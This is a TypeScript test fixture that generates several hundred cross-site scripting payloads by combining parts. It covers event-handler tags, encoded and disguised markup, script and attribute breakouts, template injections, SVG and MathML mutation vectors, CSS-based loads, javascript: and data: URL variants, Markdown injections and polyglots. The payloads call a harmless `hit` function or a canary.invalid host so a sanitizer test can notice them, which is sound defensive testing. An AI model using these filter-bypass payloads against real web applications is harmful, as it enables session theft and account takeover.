/**
 * Cross-site scripting texts. Some are combined from parts, such as tags × handlers or markup × encodings. A text that
 * runs calls `hit` with its number, opens a dialog or requests something from the canary host, which the test notices.
 */

export const canaryHost = 'canary.invalid';
/** The host of harmless pictures and links. */
export const harmlessHost = 'harmless.invalid';

export interface Payload {
  id: number;
  family: string;
  text: string;
  /** Contains control characters or half a surrogate pair, which every field refuses. */
  isRefused: boolean;
  /** HTML that runs by itself when it is not escaped. */
  isMarkup: boolean;
  /** An http(s) address, the only kind that a link field accepts. */
  isWeb: boolean;
}

type Make = (code: string, id: number) => string;
type Family = { name: string; makes: Make[] } & Partial<
  Pick<Payload, 'isRefused' | 'isMarkup' | 'isWeb'>
>;

const cross = <A, B, C>(
  one: readonly A[],
  other: readonly B[],
  join: (one: A, other: B) => C,
): C[] => one.flatMap((a) => other.map((b) => join(a, b)));

const canary = (id: number) => `//${canaryHost}/${id}`;

const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'iframe src=x',
  'object data=x',
  'embed src=x',
  'select autofocus',
  'textarea autofocus',
  'marquee',
  'a href=# tabindex=0 autofocus',
  'style',
  'x-own tabindex=0 autofocus',
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter'];
const moreHandlers = [
  'onanimationstart',
  'onanimationend',
  'onbeforetoggle',
  'onbegin',
  'oncanplay',
  'oncontentvisibilityautostatechange',
  'onhashchange',
  'onloadstart',
  'onmouseover',
  'onpageshow',
  'onscroll',
  'onscrollend',
  'onsecuritypolicyviolation',
  'onslotchange',
  'onstart',
  'ontransitionend',
  'onwheel',
];

const bases: Make[] = [
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<svg onload=${code}>`,
  (code) => `<script>${code}</script>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>">`,
];

const eachCharacter = (pattern: RegExp, write: (code: number) => string) => (text: string) =>
  text.replace(pattern, (character) => write(character.codePointAt(0) ?? 0));
const hex = (code: number, digits = 2) => code.toString(16).padStart(digits, '0');
const special = /[<>"'=()/]/g;

/** Encoded texts, in case something decodes them once too often. */
const encodings: ((text: string) => string)[] = [
  eachCharacter(special, (code) => `&#${code};`),
  eachCharacter(special, (code) => `&#x${hex(code)};`),
  eachCharacter(special, (code) => `&#0000${code}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '&LT').replaceAll('>', '&GT'),
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text.slice(0, 40))),
  eachCharacter(special, (code) => `\\u${hex(code, 4)}`),
  eachCharacter(special, (code) => `\\x${hex(code)}`),
  eachCharacter(special, (code) => `\\${code.toString(8)}`),
  eachCharacter(/[<>]/g, (code) => (code === 60 ? '+ADw-' : '+AD4-')),
  eachCharacter(/[<>]/g, (code) => (code === 60 ? '%C0%BC' : '%C0%BE')),
  eachCharacter(/[!-~]/g, (code) => String.fromCodePoint(code + 0xfee0)),
  eachCharacter(/[<>]/g, (code) => (code === 60 ? '\u2039' : '\u203a')),
];

/** Malformed markup that lenient parsers, such as browsers, accept. */
const disguises: ((text: string) => string)[] = [
  (text) => text.replace(/^<\w+/, (tag) => tag.toUpperCase()),
  (text) =>
    text.replace(/^<\w+/, (tag) =>
      [...tag].map((c, at) => (at % 2 ? c : c.toUpperCase())).join(''),
    ),
  (text) => text.replace(' ', '/'),
  (text) => text.replace(' ', '\n'),
  (text) => text.replace(' ', '\t/\t'),
  (text) => `<${text}`,
  (text) => `<x>${text}</x>`,
  (text) => `<!-- -->${text}<!--`,
  (text) => `<p title='>'>${text}`,
  (text) => `<b/x="${'>'}"${text}`.replace('"<', '"><'),
];

const scripts: Make[] = [
  (code) => `<script type=module>${code}</script>`,
  (code) => `<script async defer>${code}</script>`,
  (code) => `<script\n>${code}</script\n>`,
  (code) => `<script/x>${code}</script/x>`,
  (code) => `<script>${code}//</script>`,
  (code) => `<script>/*</script><script>*/${code}</script>`,
  (code) => `<script>eval(atob("${btoa(code)}"))</script>`,
  (code) => `<script>Function("${code}")()</script>`,
  (code) => `<script>setTimeout("${code}")</script>`,
  (code) => `<script>[1].map(()=>${code})</script>`,
  (code) => `<script>location="javascript:${code}"</script>`,
  (code) => `<script>import("data:text/javascript,${code}")</script>`,
  (code) => `<script>${code.replace('hit', '\\u0068it')}</script>`,
  (code) => `<script>new Image().src="${code}",${code}</script>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt><script>${code}</script>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<svg><script>${code}</script></svg>`,
  (_, id) => `<script src=${canary(id)}></script>`,
  (_, id) => `<script type=module>import "${canary(id)}"</script>`,
  (code) => `<script src="data:,${code}"></script>`,
];

/** Texts that try to break out of the JSON in the page, and of the elements around a text. */
const breakOuts = [
  '</script>',
  '</SCRIPT >',
  '</script/x>',
  '</script\n>',
  '<!--<script>--></script>',
  '--></script>',
  ']]></script>',
  '</title>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '"}</script>',
  '\\"}</script>',
  'x\u2028</script>',
  'x\u2029</script>',
];
const inScript: Make[] = [
  (code) => `"});${code};//`,
  (code) => `";${code};//`,
  (code) => `\\";${code};//`,
  (code) => `';${code};//`,
  (code) => `'-${code}-'`,
  (code) => `"+${code}+"`,
  (code) => `\`;${code};\``,
  (code) => `\u2028${code}\u2028//`,
  (code) => `\u2029${code}//`,
  (code) => `*/${code}/*`,
  (code) => `\n${code}\n`,
  (code) => `\\u003c/script>\\u003cscript>${code}\\u003c/script>`,
  (code) => `<!--<script>${code}`,
  (code) => `<\\/script><script>${code}<\\/script>`,
  (code) => `"__proto__":{"innerHTML":"<img src=x onerror=${code}>"}`,
  (code) => `{"$$typeof":"Symbol(react.element)","html":"<img src=x onerror=${code}>"}`,
];

const quotes = ['"', "'", '`', '">', "'>", '/>', '&quot;', '\\"'];
const inAttribute: Make[] = [
  (code) => ` onmouseover=${code} x=`,
  (code) => ` autofocus tabindex=0 onfocus=${code} x=`,
  (code) => ` style=animation-name:x onanimationstart=${code} x=`,
  (code) => `<img src=x onerror=${code}>`,
];

const templates: Make[] = [
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{$on.constructor('${code}')()}}`,
  (code) => `{{[].pop.constructor('${code}')()}}`,
  (code) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=${code}')}}`,
  (code) => `{{{constructor.constructor('${code}')()}}}`,
  (code) => `{{= ${code} }}`,
  (code) => `{{#with "s"}}{{lookup this "constructor"}}${code}{{/with}}`,
  (code) => `\${${code}}`,
  (code) => `#{${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `<%- ${code} -%>`,
  (code) => `{% if ${code} %}{% endif %}`,
  (code) => `[[${code}]]`,
  (code) => `[(${code})]`,
  (code) => `@{${code}}`,
  (code) => `@(${code})`,
  (code) => `{@html '<img src=x onerror=${code}>'}`,
  (code) => `{${code}}`,
  (code) => `<div ng-app ng-csp ng-init="constructor.constructor('${code}')()">`,
  (code) => `<div v-html="'<img src=x onerror=${code}>'" v-on:click=${code}>`,
  (code) => `<div x-data x-init="${code}" x-html="${code}">`,
  (code) => `<div data-bind="html: ${code}">`,
  (code) => `<div dangerouslySetInnerHTML={{__html: '<img src=x onerror=${code}>'}}>`,
];

const vectors: Make[] = [
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<svg><set onbegin=${code} attributeName=x to=1>`,
  (code) => `<svg><a><animate attributeName=href values=javascript:${code} /><text y=9>x</text>`,
  (code) => `<svg><a xlink:href=javascript:${code}><text y=9>x</text></a>`,
  (code) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}></svg>#x">`,
  (code) => `<svg><image href=x onerror=${code}>`,
  (code) => `<svg><foreignObject><iframe srcdoc="<script>parent.${code}</script>">`,
  (code) => `<svg><title><style><!--</style><img src=x onerror=${code}>-->`,
  (code) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  (code) => `<svg><discard onbegin=${code}>`,
  (code) => `<svg><handler type=text/javascript>${code}</handler><circle onload=${code}>`,
  (code) => `<math href=javascript:${code}>x</math>`,
  (code) => `<math><maction actiontype=statusline#x xlink:href=javascript:${code}>x`,
  (code) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${code}>`,
  (code) => `<math><annotation-xml encoding=text/html><script>${code}</script>`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  (code) => `<math><mi><xmp><mglyph><img src=x onerror=${code}></xmp>`,
];

const css: Make[] = [
  (_, id) => `<style>@import '${canary(id)}';</style>`,
  (_, id) => `<style>*{background:url(${canary(id)})}</style>`,
  (_, id) => `<style>@font-face{font-family:x;src:url(${canary(id)})}*{font-family:x}</style>x`,
  (_, id) => `<p style="background:url(${canary(id)})">x`,
  (_, id) => `<p style="list-style-image:image-set('${canary(id)}' 1x);display:list-item">x`,
  (_, id) => `<p style="--x:url(${canary(id)});background:var(--x)">x`,
  (_, id) => `<link rel=stylesheet href=${canary(id)}>`,
  (code) => `<style>@keyframes x{}*{animation:x 1ms}</style><p onanimationstart=${code}>x`,
  (code) => `<p style="width:expression(${code})" onpointerenter=${code}>`,
  (code) => `<style></style/><img src=x onerror=${code}>`,
];
const cssTexts: Make[] = [
  (_, id) => `x;background:url(${canary(id)})`,
  (_, id) => `red}*{background:url(${canary(id)})}`,
  (_, id) => `1px);background:url(${canary(id)}`,
  (_, id) => `\\3b background:url(${canary(id)})`,
  (_, id) => `/*\n*/};@import '${canary(id)}';{`,
  (code) => `expression(${code})`,
  (_, id) => `url(${canary(id)})`,
];

/** Texts that run no script but make the browser request something from another host. */
const loads: Make[] = [
  (_, id) => `<img src=${canary(id)}>`,
  (_, id) => `<img srcset="${canary(id)} 1x">`,
  (_, id) => `<picture><source srcset=${canary(id)}><img></picture>`,
  (_, id) => `<iframe src=${canary(id)}></iframe>`,
  (_, id) => `<object data=${canary(id)}></object>`,
  (_, id) => `<embed src=${canary(id)}>`,
  (_, id) => `<video poster=${canary(id)}></video>`,
  (_, id) => `<audio src=${canary(id)} autoplay></audio>`,
  (_, id) => `<video autoplay><source src=${canary(id)}></video>`,
  (_, id) => `<input type=image src=${canary(id)}>`,
  (_, id) => `<body background=${canary(id)}>`,
  (_, id) => `<link rel=preload as=image href=${canary(id)}>`,
  (_, id) => `<link rel=modulepreload href=${canary(id)}>`,
  (_, id) => `<link rel=icon href=${canary(id)}>`,
  (_, id) => `<base href=${canary(id)}/><img src=x>`,
  (_, id) => `<meta http-equiv=refresh content="0;url=http:${canary(id)}">`,
  (_, id) => `<form action=${canary(id)}><button autofocus>x</button></form>`,
  (_, id) => `<a href=# ping=${canary(id)}>x</a>`,
];

const dialogs: Make[] = [
  (_, id) => `<script>alert(${id})</script>`,
  (_, id) => `<svg onload=prompt(${id})>`,
  (_, id) => `<img src=x onerror=confirm(${id})>`,
  (_, id) => `<img src=x onerror=window['al'+'ert'](${id})>`,
  (_, id) => `<script>onerror=alert;throw ${id}</script>`,
  (_, id) => `<script>[${id}].find(alert)</script>`,
  (_, id) => `<svg onload=alert\`${id}\`>`,
  (_, id) => `<img src=x onerror=alert&lpar;${id}&rpar;>`,
  (_, id) => `<iframe srcdoc="<script>alert(${id})</script>">`,
];

/** DOM clobbering: elements with names that the page's own scripts use. */
const clobbers: Make[] = [
  (_, id) => `<script id=state type=application/json>{"path":"${id}"}</script>`,
  (_, id) => `<form id=state name=scripts><input name=content value=${canary(id)}></form>`,
  (_, id) => `<meta name=scripts content=${canary(id)}>`,
  (_, id) => `<meta name=modules content=${canary(id)}>`,
  (_, id) => `<a id=state name=scripts href=${canary(id)}></a>`,
];

/** Addresses that no link field accepts. Most try to run a script. */
const scriptAddresses: Make[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `javascript:/*x*/${code}`,
  (code) => `javascript://%0a${code}`,
  (code) => `javascript://${harmlessHost}/%0d%0a${code}`,
  (code) => `javascript:"<script>${code}</script>"`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript:${code}`,
  (code) => `java\rscript:${code}`,
  (code) => `javascript\t:${code}`,
  (code) => `j\na\nv\na\ns\nc\nr\ni\np\nt\n:${code}`,
  (code) => `\u00a0javascript:${code}`,
  (code) => `\u2028javascript:${code}`,
  (code) => `\ufeff javascript:${code}`,
  (code) => `\u200bjavascript:${code}`,
  (code) => `javascript&colon;${code}`,
  (code) => `java&Tab;script:${code}`,
  (code) => `java&NewLine;script:${code}`,
  (code) => `&#106;avascript:${code}`,
  (code) => `&#x6A;avascript&#x3A;${code}`,
  (code) => `&#0000106&#0000097vascript:${code}`,
  (code) => `%6aavascript:${code}`,
  (code) => `javascript%3A${code}`,
  (code) => `java%0ascript:${code}`,
  (code) => `\\u006aavascript:${code}`,
  (code) => `\uff4aavascript:${code}`,
  (code) => `javascript\uff1a${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `DATA:text/html;charset=utf-8,<script>${code}</script>`,
  (code) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
  (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  (code) => `data:image/svg+xml;base64,${btoa(`<svg onload=${code}>`)}`,
  (code) => `data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'>${code}</x>`,
  (code) => `data:text/javascript,${code}`,
  (code) => `data:,${code}`,
  (code) => `d\nata:text/html,<script>${code}</script>`,
  (code) => `vbscript:${code}`,
  (code) => `VbScRiPt:Execute("${code}")`,
  (code) => `vb\nscript:${code}`,
  (code) => `livescript:${code}`,
  (code) => `mocha:${code}`,
  (code) => `jscript:${code}`,
  (code) => `view-source:javascript:${code}`,
  (code) => `feed:javascript:${code}`,
  (code) => `jar:javascript:${code}`,
  (code) => `blob:javascript:${code}`,
  (code) => `filesystem:javascript:${code}`,
  (code) => `about:blank#${code}`,
  (code) => `x-javascript:${code}`,
  (code) => `file:///etc/passwd#${code}`,
  (code) => `ftp://${harmlessHost}/${code}`,
  (code) => `ws://${harmlessHost}/${code}`,
  (code) => `tel:${code}`,
  (code) => `mailto:${code}`,
  (code) => `intent://${harmlessHost}/#Intent;scheme=javascript;S.x=${code};end`,
  (code) => `chrome://settings/${code}`,
  (_, id) => canary(id),
  (_, id) => `\\\\${canaryHost}\\${id}`,
  (_, id) => `/\\${canaryHost}/${id}`,
  (_, id) => `/\t/${canaryHost}/${id}`,
  (code) => `?javascript:${code}`,
  (code) => `https ://${harmlessHost}/${code}`,
  (code) => `https://\n${harmlessHost}/${code}`,
  (code) => `https://${harmlessHost}/ onmouseover=${code}`,
];

/** Markup that contains an address. Each is combined with `heldAddresses`. */
const holders: ((url: string) => string)[] = [
  (url) => `<a href="${url}" autofocus>x</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<form action="${url}"><input type=submit></form>`,
  (url) => `<button formaction="${url}" form=x>x</button>`,
  (url) => `<input type=image formaction="${url}" src=x>`,
  (url) => `<map><area href="${url}" shape=default></map>`,
  (url) => `<base href="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<svg><a href="${url}"><text y=9>x</text></a></svg>`,
];
const heldAddresses: Make[] = [
  (code) => `javascript:${code}`,
  (code) => `java&Tab;script&colon;${code}`,
];

/** Valid http(s) addresses with an attack inside. A link field accepts and shows them. */
const webAddresses: Make[] = [
  (code) => `https://${harmlessHost}/"onmouseover=${code}//`,
  (code) => `https://${harmlessHost}/'onmouseover='${code}`,
  (code) => `https://${harmlessHost}/"><img/src=x/onerror=${code}>`,
  (code) => `https://${harmlessHost}/</script><script>${code}</script>`,
  (code) => `https://${harmlessHost}/?u=javascript:${code}`,
  (code) => `https://${harmlessHost}/#<svg/onload=${code}>`,
  (code) => `https://${harmlessHost}/&quot;onmouseover=${code}`,
  (code) => `https://${harmlessHost}/{{constructor.constructor('${code}')()}}`,
  (code) => `https://${harmlessHost}/)](javascript:${code})`,
  (code) => `https://${harmlessHost}/<!--<script>${code}`,
  (code) => `https://javascript:x@${harmlessHost}/${code}`,
  (code) => `HTTP://${harmlessHost.toUpperCase()}/\u202e${code}`,
];

const markdownTargets: Make[] = [
  ...scriptAddresses.slice(0, 4),
  (code) => `javascript&colon;${code}`,
  (code) => `&#x6A;avascript:${code}`,
  (code) => `data:text/html,%3Cscript%3E${code}%3C/script%3E`,
  (code) => `data:image/svg+xml;base64,${btoa(`<svg onload=${code}>`)}`,
  (code) => `vbscript:${code}`,
  (_, id) => canary(id),
];
const markdownForms: ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `![x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `<${url}>`,
  (url) => `[x]: ${url}\n\n[x] ![x]`,
];
const fences = [
  'bash',
  'css',
  'javascript',
  'json',
  'python',
  'rust',
  'sql',
  'typescript',
  'xml',
  'yaml',
];
const markdown: Make[] = [
  ...fences.map(
    (language): Make =>
      (code) =>
        `\`\`\`${language}\n</code></pre><img src=x onerror=${code}>\n\`\`\``,
  ),
  (code) => `\`\`\`"><img/src=x/onerror=${code}>\nx\n\`\`\``,
  (code) => `\`\`\`x" onmouseover="${code}\nx\n\`\`\``,
  (code) => `~~~</code><svg/onload=${code}>\nx\n~~~`,
  (code) => `\`\`\`__proto__\n${code}\n\`\`\``,
  (code) => `\`\`\`constructor <script>${code}</script>\nx\n\`\`\``,
  (code) => `    <script>${code}</script>`,
  (code) => `\`<img src=x onerror=${code}>\``,
  (code) => `\`\`</code><img src=x onerror=${code}>\`\``,
  (code) => `[x](https://${harmlessHost} "\\" onmouseover=${code} x=\\"")`,
  (code) => `![x](https://${harmlessHost}/p.png '" onerror=${code} x="')`,
  (code) => `![" onerror=${code} x="](https://${harmlessHost}/p.png)`,
  (code) => `![<img src=x onerror=${code}>](https://${harmlessHost}/p.png)`,
  (code) => `[<img src=x onerror=${code}>](https://${harmlessHost})`,
  (code) => `[x](https://${harmlessHost}/"onmouseover="${code})`,
  (code) => `[![x](javascript:${code})](javascript:${code})`,
  (code) => `[x]( javascript:${code} )`,
  (code) => `[x](\\javascript:${code})`,
  (code) => `[x](#"onmouseover="${code})`,
  (code) => `[x](/\\${canaryHost}/${code})`,
  (code) => `[x](mailto:x?subject="onmouseover="${code})`,
  (code) => `x http://${harmlessHost}/"onmouseover="${code}`,
  (code) => `www.${harmlessHost}.com/'onmouseover='${code}`,
  (code) => `x'onclick=${code}@${harmlessHost}.com <"onclick=${code}@x.com>`,
  (code) => `x[^1]\n\n[^1]: <img src=x onerror=${code}>`,
  (code) => `[^<img src=x onerror=${code}>]`,
  (code) => `# <img src=x onerror=${code}>`,
  (code) => `# x {#x onclick=${code}}`,
  (code) => `<img src=x onerror=${code}>\n===`,
  (code) => `| <img src=x onerror=${code}> |\n|---|\n| <svg onload=${code}> |`,
  (code) => `- [ ] <img src=x onerror=${code}>`,
  (code) => `> <script>${code}</script>`,
  (code) => `1. <details open ontoggle=${code}>`,
  (code) => `<div>\n\n*x*\n\n<script>${code}</script></div>`,
  (code) => `<!-- x --><script>${code}</script>`,
  (code) => `<?php ?><script>${code}</script>`,
  (code) => `<![CDATA[<script>${code}</script>]]>`,
  (code) => `\\<script>${code}\\</script>`,
  (code) => `$$\\href{javascript:${code}}{x}$$`,
  (code) => `:::x" onmouseover="${code}\nx\n:::`,
  (code) => `[x]{onclick=${code} .y}`,
  (code) => `---\ntitle: <img src=x onerror=${code}>\n---`,
  (code) => `&lt;img src=x onerror=${code}&gt; &#60;svg onload=${code}>`,
  (code) => `**<b onpointerenter=${code}>** ~~<s>~~ <u style=x`,
];

/** Characters that reverse, hide or join the text around them. */
const oddities = [
  '\u202e',
  '\u2066',
  '\u200f',
  '\u200b',
  '\u200d',
  '\u00ad',
  '\u00a0',
  '\u180e',
  '\u3000',
  '\u2028',
  '\ufeff',
  '\ufffe',
  '\uffff',
  '\ufffd',
  '\u{1f426}',
  '\u{e0001}',
  'a\u0301\u0301\u0301\u0301',
  '\r',
];
const odd: Make[] = [
  ...oddities.map(
    (character): Make =>
      (code) =>
        `x${character}<img src=x onerror=${code}>`,
  ),
  ...oddities.slice(0, 9).map(
    (character): Make =>
      (code) =>
        `<${character}script>${code}</${character}script>`,
  ),
];
const controls: Make[] = [
  '\0',
  '\u0001',
  '\u0008',
  '\u000b',
  '\u000c',
  '\u001b',
  '\u007f',
  '\u0085',
].flatMap((character): Make[] => [
  (code) => `<img${character}src=x onerror=${code}>`,
  (code) => `<scr${character}ipt>${code}</script>`,
  (code) => `java${character}script:${code}`,
  (code) => `${character}javascript:${code}//x`,
]);
const halves: Make[] = [(code) => `\ud83d<img src=x onerror=${code}>\udc26`];

/** Polyglots: texts that work in many contexts. */
const polyglots: Make[] = [
  (code) => `'"--></title></style></textarea></script><svg/onload=${code}>`,
  (code) =>
    `javascript:/*--></title></style></script><svg onload='+/"/+/onmouseover=1/+/[*/[]/+${code}//'>`,
  (code) => `"onclick=${code}//<button ' onclick=${code}//> */ ${code}//`,
  (code) =>
    `\`"'><img src=x onerror=${code}>{{constructor.constructor('${code}')()}}](javascript:${code})`,
  (code) => `-->'"/></sCript><deTailS open x=">" ontoggle=(${code})>`,
];

const families: Family[] = [
  {
    name: 'elements and their handlers',
    makes: cross(tags, handlers, (tag, handler) => (code) => `<${tag} ${handler}=${code}>x`),
    isMarkup: true,
  },
  {
    name: 'rarer handlers',
    makes: moreHandlers.map(
      (handler) => (code) => `<img src=x ${handler}='${code}' onerror=${code}>`,
    ),
    isMarkup: true,
  },
  {
    name: 'encoded',
    makes: cross(bases, encodings, (base, encode) => (code, id) => encode(base(code, id))),
  },
  {
    name: 'disguised',
    makes: cross(bases, disguises, (base, disguise) => (code, id) => disguise(base(code, id))),
    isMarkup: true,
  },
  { name: 'scripts', makes: scripts, isMarkup: true },
  {
    name: 'out of an element',
    makes: breakOuts.map((end) => (code) => `${end}<script>${code}</script>`),
    isMarkup: true,
  },
  { name: 'out of the data', makes: inScript },
  {
    name: 'out of an attribute',
    makes: cross(quotes, inAttribute, (quote, rest) => (code, id) => `x${quote}${rest(code, id)}`),
  },
  { name: 'templates', makes: templates },
  { name: 'SVG and MathML', makes: vectors, isMarkup: true },
  { name: 'styles', makes: css, isMarkup: true },
  { name: 'style texts', makes: cssTexts },
  { name: 'loads', makes: loads, isMarkup: true },
  { name: 'dialogs', makes: dialogs, isMarkup: true },
  { name: 'clobbering', makes: clobbers, isMarkup: true },
  { name: 'scripts as addresses', makes: scriptAddresses },
  {
    name: 'elements with addresses',
    makes: cross(holders, heldAddresses, (hold, url) => (code, id) => hold(url(code, id))),
    isMarkup: true,
  },
  { name: 'web addresses', makes: webAddresses, isWeb: true },
  {
    name: 'Markdown links',
    makes: cross(markdownForms, markdownTargets, (form, url) => (code, id) => form(url(code, id))),
  },
  { name: 'Markdown', makes: markdown },
  { name: 'odd characters', makes: odd },
  { name: 'control characters', makes: controls, isRefused: true },
  { name: 'broken characters', makes: halves, isRefused: true },
  { name: 'polyglots', makes: polyglots },
];

let made = 0;
export const payloads: Payload[] = families.flatMap(
  ({ name, makes, isRefused = false, isMarkup = false, isWeb = false }) =>
    makes.map((make) => {
      made += 1;
      return {
        id: made,
        family: name,
        text: make(`hit(${made})`, made),
        isRefused,
        isMarkup,
        isWeb,
      };
    }),
);

/** Valid e-mail addresses with an attack inside. */
export const mailAddresses = [
  `'onmouseover=hit'@${harmlessHost}`,
  `{{constructor.constructor}}@${harmlessHost}`,
  `\${hit}@${harmlessHost}`,
  `javascript&colon@${harmlessHost}`,
  `x?body=%3Cscript%3Ehit%3C/script%3E@${harmlessHost}`,
  `\`-hit-\`@${harmlessHost}`,
  `/*hit*/@${harmlessHost}`,
];
